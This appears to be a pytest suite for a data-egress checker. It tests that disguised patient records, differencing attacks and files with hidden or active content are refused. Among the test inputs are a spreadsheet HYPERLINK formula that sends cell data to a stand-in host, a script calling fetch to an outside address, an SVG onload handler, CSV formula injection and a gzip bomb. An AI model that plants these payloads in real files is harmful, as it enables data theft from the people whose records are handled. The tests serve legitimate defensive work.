# ruff: noqa: E501 - one disguise a line
"""Records in disguise and files that hide something: none is released, and most are called by their name."""

from __future__ import annotations

import base64
import gzip
import io
import json
import pickle
import random
import tarfile
import zipfile

import openpyxl
import py7zr
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from backports import zstd
from openpyxl.comments import Comment

from sandbox.egress.judge import judge
from sandbox.egress.report import Product
from sandbox.kernel.findings import FileJudgement, FindingKind, Verdict
from tests.egress.clinic import claim, csv_of, source, visits

ROWS = visits().slice(100, 12)
SAFE = ROWS.select(["区县", "病种", "就诊日期", "金额", "性别"])
COUNT_SQL = "SELECT 病种, count(*) AS n FROM visits GROUP BY 病种"


def counts() -> pa.Table:
    grouped = visits().group_by("病种").aggregate([([], "count_all")]).rename_columns(["病种", "n"])
    return grouped.sort_by("病种")


def judged(data: bytes, path: str = "p.bin", with_claim: str | None = None) -> FileJudgement:
    product = Product(path, data, claim=None if with_claim is None else claim(with_claim))
    return judge([product], [source()]).judgement.files[0]


def kinds(file: FileJudgement) -> set[FindingKind]:
    return {found.kind for found in file.findings}


def text_rows(table: pa.Table) -> list[list[str]]:
    return [list(row) for row in zip(*(column.to_pylist() for column in table.columns), strict=True)]


def shuffled(table: pa.Table) -> pa.Table:
    chance = random.Random(3)
    names = chance.sample(table.column_names, len(table.column_names))
    order = chance.sample(range(table.num_rows), table.num_rows)
    return table.select(names).take(order).rename_columns([f"x{place}" for place in range(len(names))])


def full_width(text: str) -> str:
    return "".join(chr(ord(mark) + 0xFEE0) if "!" <= mark <= "~" else mark for mark in text)


def widened(table: pa.Table) -> pa.Table:
    columns = [pa.array([full_width(cell) for cell in column.to_pylist()]) for column in table.columns]
    return pa.Table.from_arrays(columns, names=table.column_names)


def other_dates(table: pa.Table) -> pa.Table:
    dates = [
        f"{int(day[:4])}年{int(day[5:7])}月{int(day[8:])}日" for day in table.column("就诊日期").to_pylist()
    ]
    return table.set_column(table.column_names.index("就诊日期"), "就诊日期", pa.array(dates))


def transposed(table: pa.Table) -> bytes:
    lines = [",".join(["k", *(f"r{n}" for n in range(table.num_rows))])]
    lines += [
        ",".join([name, *column.to_pylist()])
        for name, column in zip(table.column_names, table.columns, strict=True)
    ]
    return "\n".join(lines).encode()


def long_form(table: pa.Table) -> bytes:
    lines = ["id,attribute,value"]
    for number, row in enumerate(text_rows(table)):
        lines += [f"{number},{name},{cell}" for name, cell in zip(table.column_names, row, strict=True)]
    return "\n".join(lines).encode()


def packed(table: pa.Table) -> bytes:
    return "\n".join(["packed", *("|".join(row) for row in text_rows(table))]).encode()


def sentences(table: pa.Table) -> bytes:
    lines = ["# 说明"]
    for name, row in zip(ROWS.column("姓名").to_pylist(), text_rows(table), strict=True):
        lines.append(
            f"患者 {name}，区县：{row[0]}，因“{row[1]}”即 {row[1]} 就诊，日期 {row[2]}，花费：{row[3]}"
        )
    return "\n".join(lines).encode()


def as_json(table: pa.Table) -> bytes:
    return json.dumps(table.to_pylist(), ensure_ascii=False).encode()


def zipped(*members: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, data in members:
            package.writestr(name, data)
    return out.getvalue()


def tarred(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as package:
        member = tarfile.TarInfo(name)
        member.size = len(data)
        package.addfile(member, io.BytesIO(data))
    return out.getvalue()


def workbook(
    table: pa.Table, *, hidden: pa.Table | None = None, note: str = "", title: str = "", formula: str = ""
) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in [table.column_names, *text_rows(table)]:
        sheet.append(row)
    if hidden is not None:
        extra = book.create_sheet("x")
        for row in text_rows(hidden):
            extra.append(row)
        extra.sheet_state = "veryHidden"
    if note:
        sheet["A1"].comment = Comment(note, "a")
    if formula:
        sheet["A3"] = formula
    book.properties.title = title or None
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def parquet(table: pa.Table, metadata: dict[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    pq.write_table(table.replace_schema_metadata(metadata), out)
    return out.getvalue()


def sevened(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w") as archive:
        archive.writestr(data, name)
    return out.getvalue()


RECORDS = {
    "the file itself": csv_of(ROWS),
    "7z": sevened("p.csv", csv_of(ROWS)),
    "zstd": zstd.compress(csv_of(ROWS)),
    "shuffled and renamed": csv_of(shuffled(ROWS)),
    "without identifiers": csv_of(shuffled(SAFE)),
    "full width": csv_of(widened(SAFE)),
    "other date layout": csv_of(other_dates(SAFE)),
    "json": as_json(SAFE),
    "json by column": json.dumps(SAFE.to_pydict(), ensure_ascii=False).encode(),
    "json lines": b"\n".join(as_json(SAFE.slice(n, 1))[1:-1] for n in range(12)),
    "json nested deep": json.dumps({"meta": {"x": [{"rows": SAFE.to_pylist()}]}}, ensure_ascii=False).encode(),
    "json split": json.dumps({"columns": list("abcde"), "data": text_rows(SAFE)}, ensure_ascii=False).encode(),
    "transposed": transposed(SAFE),
    "key and value": long_form(SAFE),
    "one cell": packed(SAFE),
    "sentences": sentences(SAFE),
    "utf-16": csv_of(SAFE).decode().encode("utf-16"),
    "gb18030": csv_of(SAFE).decode().encode("gb18030"),
    "zip": zipped(("a/b.json", as_json(SAFE))),
    "gzip in zip": zipped(("a.csv.gz", gzip.compress(csv_of(SAFE)))),
    "zip in zip": zipped(("inner.zip", zipped(("a.csv", csv_of(SAFE))))),
    "gzip": gzip.compress(csv_of(SAFE)),
    "tar": tarred("a.csv", csv_of(SAFE)),
    "parquet": parquet(SAFE),
    "workbook": workbook(SAFE),
    "hidden sheet": workbook(counts().cast(pa.schema([("病种", pa.string()), ("n", pa.string())])), hidden=SAFE),
    "base64 in a text": b"# report\n" + base64.b64encode(csv_of(SAFE)),
    "base64 of gzip in a cell": b"k,v\n1," + base64.b64encode(gzip.compress(csv_of(SAFE))),
    "hexadecimal": b"k,v\n1," + csv_of(SAFE).hex().encode(),
    "headerless": csv_of(SAFE).split(b"\n", 1)[1],
    "a picture's tail": zipped(("a.txt", csv_of(SAFE))),
}  # fmt: skip


@pytest.mark.parametrize("name", RECORDS)
def test_records_in_disguise_are_refused_by_name(name: str) -> None:
    file = judged(RECORDS[name], path="p.csv" if name in ("one cell", "headerless") else "p")
    assert file.verdict is Verdict.REFUSE
    assert FindingKind.SOURCE_RECORD in kinds(file), [str(found.message) for found in file.findings]
    assert file.rewritten is None


HIDDEN = {
    "comment": (workbook(SAFE, note="张三"), FindingKind.HIDDEN_CONTENT),
    "document title": (workbook(SAFE, title="13800001111"), FindingKind.HIDDEN_CONTENT),
    "formula": (workbook(SAFE, formula='=HYPERLINK("http://x/"&B2)'), FindingKind.ACTIVE_CONTENT),
    "parquet metadata": (parquet(counts(), {"note": "张三"}), FindingKind.HIDDEN_CONTENT),
    "repeated keys": ('[{"k": "病种1", "k": "张三", "n": 250}]'.encode(), FindingKind.HIDDEN_CONTENT),
    "zero-width label": ("病种,n\n病种\u200b1,250\n".encode(), FindingKind.HIDDEN_CONTENT),
    "blanks after cells": ("病种,n\n病种1  ,250\n".encode(), FindingKind.HIDDEN_CONTENT),
    "csv formula": ("病种,n\n=1+2,250\n".encode(), FindingKind.ACTIVE_CONTENT),
    "html with script": (b"<html><body>x<script>fetch('//x')</script></body></html>", FindingKind.ACTIVE_CONTENT),
    "svg with script": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"></svg>', FindingKind.ACTIVE_CONTENT),
    "pickle": (pickle.dumps({"model": [1, 2, 3] * 50}, protocol=4), FindingKind.OPAQUE),
    "random bytes": (random.Random(1).randbytes(5000), FindingKind.OPAQUE),
}  # fmt: skip
HIDDEN["resident id"] = (("说明：" + ROWS.column("证件号")[0].as_py()).encode(), FindingKind.IDENTIFIER)


@pytest.mark.parametrize("name", HIDDEN)
def test_hidden_active_and_opaque_content_is_named(name: str) -> None:
    data, kind = HIDDEN[name]
    file = judged(data)
    assert file.verdict is not Verdict.RELEASE
    assert kind in kinds(file), [found.kind for found in file.findings]


def encrypted_zip() -> bytes:
    data = bytearray(zipped(("a.csv", csv_of(SAFE))))
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        place = data.index(mark) + (6 if mark == b"PK\x03\x04" else 8)
        data[place] |= 1
    return bytes(data)


BROKEN = {
    "truncated zip": zipped(("a.csv", csv_of(SAFE)))[:-20],
    "truncated parquet": parquet(SAFE)[:-20],
    "truncated json": as_json(SAFE)[:-20],
    "truncated gzip": gzip.compress(csv_of(SAFE))[:-20],
    "unclosed quote": b'a,b\n"x,1\ny,2\n',
    "ragged": b"a,b\n1,2,3\n4\n",
    "encrypted zip": encrypted_zip(),
    "bomb": gzip.compress(b"a" * 50_000_000),
    "deep json": b"[" * 50_000 + b"]" * 50_000,
    "a zip after a table": b"a,b\n1,2\n" + zipped(("a.csv", csv_of(SAFE))),
}


@pytest.mark.parametrize("name", BROKEN)
def test_what_cannot_be_read_whole_is_refused(name: str) -> None:
    assert judged(BROKEN[name]).verdict is Verdict.REFUSE


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("hidden sheet", workbook(counts().cast(pa.schema([("病种", pa.string()), ("n", pa.string())])), hidden=SAFE)),
        ("metadata", parquet(counts(), {"k": "v"})),
        ("repeated keys", ("[" + ",".join(f'{{"病种": "x", "病种": "{k}", "n": {n}}}' for k, n in
                                          text_rows(counts())) + "]").encode()),
        ("zip", zipped(("p.csv", csv_of(counts())))),
        ("trailing bytes", parquet(counts()) + b"x" * 100),
    ],
)  # fmt: skip
def test_a_true_claim_does_not_make_the_file_safe(name: str, data: bytes) -> None:
    assert judged(data, with_claim=COUNT_SQL).verdict is not Verdict.RELEASE, name


def test_the_same_counts_without_tricks_are_released() -> None:
    for data in (csv_of(counts()), parquet(counts()), as_json(counts())):
        assert judged(data, with_claim=COUNT_SQL).verdict is Verdict.RELEASE


def test_low_digits_of_means_and_row_order_do_not_leave() -> None:
    sql = "SELECT 病种, avg(CAST(金额 AS DOUBLE)) AS m FROM visits WHERE 区县 IN ('红花岗区', '汇川区', '播州区') GROUP BY 病种"
    table = visits().to_pandas()
    table["金额"] = table["金额"].astype(float)
    means = table[table["区县"].isin(["红花岗区", "汇川区", "播州区"])].groupby("病种")["金额"].mean()
    rewritten = set()
    for seed in (1, 2):
        chance = random.Random(seed)
        lines = [
            f"{name},{value * (1 + chance.uniform(-1, 1) * 1e-10):.12f}" for name, value in means.items()
        ]
        chance.shuffle(lines)
        product = Product("p.csv", "\n".join(["病种,m", *lines]).encode(), claim=claim(sql))
        result = judge([product], [source()])
        assert result.judgement.files[0].verdict is Verdict.RELEASE
        rewritten.add(result.judgement.files[0].rewritten_digest)
    assert len(rewritten) == 1


def test_one_record_split_over_two_files_is_found() -> None:
    left = Product("a.csv", csv_of(SAFE.select(["区县", "就诊日期"])))
    right = Product("b.csv", csv_of(SAFE.select(["病种", "金额"])))
    result = judge([left, right], [source()]).judgement
    assert any(found.kind is FindingKind.SOURCE_RECORD for found in result.set_findings) or all(
        FindingKind.SOURCE_RECORD in kinds(file) for file in result.files
    )
    assert {file.verdict for file in result.files} == {Verdict.REFUSE}


def test_a_file_beside_one_that_is_refused_for_its_column_is_no_record_for_that() -> None:
    innocent = pa.table({"街道": [f"街道{n}" for n in range(12)], "路灯": [str(40 + n) for n in range(12)]})
    right = Product("b.csv", csv_of(SAFE.select(["病种", "金额"])))
    result = judge([Product("a.csv", csv_of(innocent)), right], [source()]).judgement
    assert [file.verdict for file in result.files] == [Verdict.REVIEW, Verdict.REFUSE]
    assert not result.set_findings


def test_a_pair_of_proven_tables_that_subtract_to_a_few_is_refused() -> None:
    every = "SELECT 性别, count(*) AS n FROM visits GROUP BY 性别"
    most = "SELECT 性别, count(*) AS n FROM visits WHERE 区县 IN ('红花岗区', '汇川区', '播州区', '仁怀市') GROUP BY 性别"
    frame = visits().to_pandas()
    tables = {
        every: frame.groupby("性别").size(),
        most: frame[frame["区县"] != "赤水市"].groupby("性别").size(),
    }
    products = [
        Product(
            f"{n}.csv",
            ("性别,n\n" + "\n".join(f"{k},{v}" for k, v in table.items())).encode(),
            claim=claim(sql),
        )
        for n, (sql, table) in enumerate(tables.items())
    ]
    alone = judge(products[:1], [source()]).judgement
    assert alone.verdict is Verdict.RELEASE
    both = judge(products, [source()]).judgement
    assert [found.kind for found in both.set_findings] == [FindingKind.DIFFERENCING]
    assert both.set_findings[0].paths == ("0.csv", "1.csv")
    assert {file.verdict for file in both.files} == {Verdict.REFUSE}
